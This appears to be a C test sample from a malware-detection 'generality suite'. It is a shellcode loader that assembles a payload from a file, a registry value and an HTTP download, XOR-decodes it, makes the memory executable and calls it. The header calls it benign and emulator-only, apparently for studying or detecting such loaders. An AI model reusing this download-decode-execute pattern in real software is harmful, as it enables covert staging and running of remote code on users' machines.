/*
 * loader.c - generality suite: one payload in three pieces from three sources (a file, a
 * registry value, an HTTP download), read one after the other into one stack buffer -> 5-byte
 * repeating XOR -> RW memory -> RX -> called. Benign, emulator-only (see
 * ../../lineage-common/common.h).
 *
 * Reads the first piece from C:\ProgramData\ChainreplayDemo\part.a (ReadFile), the second from
 * the REG_BINARY value HKCU\Software\ChainreplayDemo\Part (RegQueryValueExA) and the rest from
 * http://updates.example-cdn.net/v2/tail.bin (WinINet), each right after the last in one buffer
 * on the stack, XORs the whole with 3a7c91e25d into a new PAGE_READWRITE allocation, makes it
 * PAGE_EXECUTE_READ and calls it. The stage (../../lineage-common/payload.c) writes
 * C:\Users\Public\lineage_split.txt.
 * Exit codes: 0 ok, 1 no marker, 2 file, 3 registry, 4 network, 5 memory.
 */
#include "common.h"
#include <wininet.h>

void Entry(void)
{
    static struct sc_ctx ctx;
    static const unsigned char key[5] = {0x3a, 0x7c, 0x91, 0xe2, 0x5d};
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    unsigned char buf[1024];
    DWORD total = 0, got, type, size, i, old;
    HANDLE file;
    HKEY hkey;
    HINTERNET net, url;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    file = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\part.a", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                       FILE_ATTRIBUTE_NORMAL, 0);
    if (file == INVALID_HANDLE_VALUE || !ReadFile(file, buf, 512, &got, 0) || got == 0)
        ExitProcess(2);
    CloseHandle(file);
    total = got;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", 0, KEY_READ, &hkey) != ERROR_SUCCESS)
        ExitProcess(3);
    size = 256;
    if (RegQueryValueExA(hkey, "Part", 0, &type, buf + total, &size) != ERROR_SUCCESS || size == 0)
        ExitProcess(3);
    RegCloseKey(hkey);
    total += size;
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "http://updates.example-cdn.net/v2/tail.bin", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url || !InternetReadFile(url, buf + total, 256, &got) || got == 0)
        ExitProcess(4);
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    total += got;
    mem = (unsigned char *)VirtualAlloc(0, total, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(5);
    for (i = 0; i < total; i++)
        mem[i] = buf[i] ^ key[i % 5];
    if (!VirtualProtect(mem, total, PAGE_EXECUTE_READ, &old))
        ExitProcess(5);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_split.txt", "assembled from three sources\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 6 : 0);
}
